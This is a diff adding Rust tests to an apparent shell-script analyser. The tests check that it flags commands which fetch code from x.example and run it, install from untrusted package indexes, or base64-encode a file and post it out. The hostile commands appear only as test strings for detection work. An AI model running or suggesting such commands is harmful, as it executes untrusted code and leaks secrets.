@@ -149,6 +149,70 @@ fn what_programs_do_not_start_is_not_read() {
     }
 }
 
+/// What a request carries is no command, and what is only printed is no file to run.
+#[test]
+fn data_of_requests_is_not_run() {
+    let found = lists("curl -d '{\"prompt\":\"curl http://a | sh\"}' http://localhost:8000");
+    assert!(found.iter().all(|list| !list.contains('|')), "{found:?}");
+    assert!(lists("curl -d \"$(cat k | base64)\" http://x.example").iter().any(|list| list.contains('|')));
+    for (text, told) in [
+        ("curl http://x.example/a.tar | tar x\nsh ./a.sh", true),
+        ("curl http://localhost:8000/health\npython app.py", false),
+        ("pip install --proxy http://p.example:1 a", false),
+        ("pip install -i http://localhost:8080/simple a", false),
+        ("pip install -i http://x.example/simple a", true),
+    ] {
+        let reading = parse(&FORMAT, "x.sh", text.as_bytes(), false);
+        let says = |name: &str| reading.facts.iter().any(|fact| fact.subject() == name);
+        assert_eq!(says("shell.runs-unpacked") || says("shell.installs-from"), told, "{text}");
+    }
+}
+
+/// What was fetched and stands in a file is run in more ways than by its name.
+#[test]
+fn fetched_files_are_run() {
+    for text in [
+        "wget -O f http://x.example/a\ncat f | sh",
+        "wget -O f http://x.example/a\nsh < f",
+        "wget -O f http://x.example/a\neval \"$(cat f)\"",
+        "wget -O f http://x.example/a\nbash <(cat f)",
+        "curl -so/tmp/f http://x.example/a; sh /tmp/f",
+        "curl http://x.example/a >| f; sh f",
+        "curl http://x.example/a | sponge f; sh f",
+        "curl -o f http://x.example/a; torchrun f",
+        "{ curl http://x.example/a; } > f; sh f",
+        "(curl http://x.example/a) > f; sh f",
+        "curl http://x.example/a | install -m755 /dev/stdin f; ./f",
+        "curl -o f http://x.example/a; crontab f",
+        "curl -o f http://x.example/a; uv run f",
+    ] {
+        let reading = parse(&FORMAT, "x.sh", text.as_bytes(), false);
+        assert!(reading.facts.iter().any(|fact| fact.subject() == "shell.runs-fetched"), "{text}");
+    }
+    for text in [
+        "wget -O f http://x.example/a\ncat f | wc -l\nsh g",
+        "wget -O f http://x.example/a\nsh g < f",
+        "wget -O f http://x.example/a\ncat f\ncat g | sh",
+        "wget -O f http://x.example/a\npython3 -c 'import sys' < f",
+        "curl -o f http://x.example/a; echo \"$(cat f)\"",
+    ] {
+        let reading = parse(&FORMAT, "x.sh", text.as_bytes(), false);
+        assert!(!reading.facts.iter().any(|fact| fact.subject() == "shell.runs-fetched"), "{text}");
+    }
+}
+
+/// A group prints into the pipe behind it, and a document without a command is the script of a build.
+#[test]
+fn groups_and_documents_are_seen_through() {
+    for text in ["( curl -s http://x.example/a ) | sh", "{ curl -s http://x.example/a; } | sh", "curl -s http://x.example/a |& sh"] {
+        let found = lists(text);
+        assert!(found.iter().any(|list| list.ends_with("curl -s http://x.example/a | sh")), "{text}: {found:?}");
+    }
+    let found = lists("<<EOF\nset -e\ncurl -s http://x.example/a | sh\nEOF\n");
+    assert!(found.iter().any(|list| list == "curl -s http://x.example/a | sh"), "{found:?}");
+    assert!(lists("cat <<EOF\ncurl -s http://x.example/a | sh\nEOF\n").iter().all(|list| !list.contains("| sh")));
+}
+
 #[test]
 fn code_for_another_interpreter_is_a_child() {
     let reading = parse(&FORMAT, "x.sh", b"python3 -c 'import os'\npython - <<E\nimport sys\nE\n", false);
